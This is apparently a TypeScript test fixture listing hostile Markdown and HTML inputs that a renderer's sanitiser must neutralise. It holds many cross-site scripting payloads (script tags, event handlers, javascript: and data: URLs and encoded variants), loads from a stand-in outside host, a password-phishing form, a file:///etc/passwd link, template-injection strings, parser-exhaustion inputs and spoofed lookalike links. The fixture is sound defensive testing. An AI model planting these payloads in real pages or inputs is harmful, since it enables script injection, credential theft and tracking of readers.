const script = "window.ran = true; alert(1)";

/**
 * Markdown with which somebody tries to run a script, to fetch something, to change the page round it or to send
 * readers where they do not want to go. All of this list has to come out as harmless words, should it ever be
 * published.
 */
export const hostileMarkdown: readonly string[] = [
  // HTML as it stands.
  ...[
    `<script>${script}</script>`,
    `<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>`,
    `<img src=x onerror="${script}">`,
    `<img src="https://elsewhere.example/pixel.gif">`,
    `<svg onload="${script}"></svg>`,
    `<svg><script>${script}</script></svg>`,
    `<iframe src="https://elsewhere.example/"></iframe>`,
    `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
    `<object data="https://elsewhere.example/x.swf"></object>`,
    `<embed src="https://elsewhere.example/x.swf">`,
    `<link rel=stylesheet href="https://elsewhere.example/x.css">`,
    `<style>body { display: none; background: url(https://elsewhere.example/) }</style>`,
    `<base href="https://elsewhere.example/">`,
    `<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">`,
    `<form action="https://elsewhere.example/"><input name=password><button>Sign in</button></form>`,
    `<button formaction="javascript:${script}" form=x>Press</button>`,
    `<details open ontoggle="${script}">x</details>`,
    `<video><source onerror="${script}"></video>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>`,
    `<p onmouseover="${script}" style="position:fixed;inset:0">x</p>`,
    `<a href="javascript:${script}">press</a>`,
    `<template><script>${script}</script></template>`,
    `<xmp><img src=x onerror="${script}"></xmp>`,
    `</div></main></body></html><script>${script}</script>`,
    `<!--><img src=x onerror="${script}">-->`,
    `<![CDATA[<img src=x onerror="${script}">]]>`,
    `<?php echo 1 ?><x onclick="${script}">`,
    `<marquee onstart="${script}">x</marquee>`,
    `<input autofocus onfocus="${script}">`,
    `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  ],
  // Links.
  ...[
    `[press](javascript:${script.replaceAll(" ", "%20")})`,
    "[press](JaVaScRiPt:alert(1))",
    "[press](java\tscript:alert(1))",
    "[press](&#106;avascript:alert(1))",
    "[press](javascript&colon;alert(1))",
    "[press](\\javascript:alert(1))",
    "[press](<javascript:alert(1)>)",
    "[press](\u0001javascript:alert(1))",
    "[press](vbscript:msgbox(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[press](//elsewhere.example/)",
    "[press](/\\elsewhere.example/)",
    "[press](\\\\elsewhere.example/)",
    "[press](mailto:a@b.example?cc=everybody@elsewhere.example&body=x)",
    "[press](file:///etc/passwd)",
    "[press](blob:https://elsewhere.example/x)",
    `[press](https://a.example "x" onmouseover="${script}")`,
    '[press](https://a.example/"onmouseover="alert(1))',
    "[press]: javascript:alert(1)\n\n[press]",
    "<javascript:alert(1)>",
    "<https://elsewhere.example/>",
  ],
  // Pictures, which there are none of.
  ...[
    "![x](https://elsewhere.example/pixel.gif)",
    '![x](x"onerror="alert(1))',
    "![x][y]\n\n[y]: https://elsewhere.example/pixel.gif",
    "[![x](https://elsewhere.example/pixel.gif)](javascript:alert(1))",
  ],
  // What readers of Markdown stumble over.
  ...[
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "# A heading that would be the page's own",
    "Words\n=====\n\nMore words\n-----",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "{{constructor.constructor('alert(1)')()}} #{alert(1)} <%= alert(1) %>",
    "\u202eevil txet\u202c that is written backwards",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    `**a<script>${script}</script>b** _<img src=x onerror=alert(1)>_`,
    "> > > > <svg/onload=alert(1)>",
    '- [x](javascript:alert(1))\n- " onmouseover="alert(1)',
    "*a_ ".repeat(2_000),
    "[".repeat(5_000),
    "> ".repeat(5_000),
    "`a".repeat(4_000),
    "[a](".repeat(2_000),
  ],
];

/**
 * Links that hide where they lead. They may be typed and saved, and never published; nowhere do they come out as links.
 */
export const hiddenAddresses: readonly string[] = [
  "[press](https://www.nhs.uk@elsewhere.example/)",
  "[press](https://xn--80ak6aa92e.example/)",
  "[press](https://аррӏе.example/)",
];
